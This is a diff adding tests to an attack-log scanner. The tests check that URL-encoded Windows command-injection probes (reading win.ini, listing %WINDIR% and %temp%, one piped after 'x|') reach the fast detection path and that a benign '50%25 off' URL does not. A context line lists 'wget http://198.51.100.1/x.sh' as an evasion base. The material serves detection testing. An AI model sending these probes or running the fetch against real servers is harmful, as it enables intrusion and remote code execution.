@@ -83,6 +83,28 @@ def test_quotes_and_spaces_the_cmd_view_removes_reach_the_fast_path(fast_scanner
     assert [f.rule_ids[0] for f in res.findings] == [rule]
 
 
+# "%" is a keyword character (the Windows variables of SYS_PATH) that benign URLs encode ("50%25
+# off"): its %25 form is a keyword alternative, not a marker that passes every such line.
+@pytest.mark.parametrize(
+    "target",
+    [
+        b"/x?c=type%20%25systemroot%25/win.ini",
+        b"/x?c=dir%20%25WINDIR%25",
+        b"/x?c=x|dir%20%25temp%25",
+        b"/x?c=dir%20%windir%25",
+        b"/x?c=dir%20%25windir%",
+    ],
+)
+def test_encoded_percent_of_a_keyword_reaches_the_fast_path(fast_scanner, full_scanner, target):
+    line = b'203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "GET ' + target + b' HTTP/1.1" 404 1 "-" "-"\n'
+    res = _compare(fast_scanner, full_scanner, line)
+    assert [f.rule_ids[0] for f in res.findings] == ["rce.shell-command"]
+
+
+def test_benign_encoded_percent_is_not_a_candidate(fast_scanner):
+    assert not fast_scanner.prefilter(COMBINED).candidates(combined_line("/sale?d=50%25+off"))
+
+
 # --- generated evasions: the prefilter must pass every line the full path finds something in ---
 BASES = [
     "wget http://198.51.100.1/x.sh",
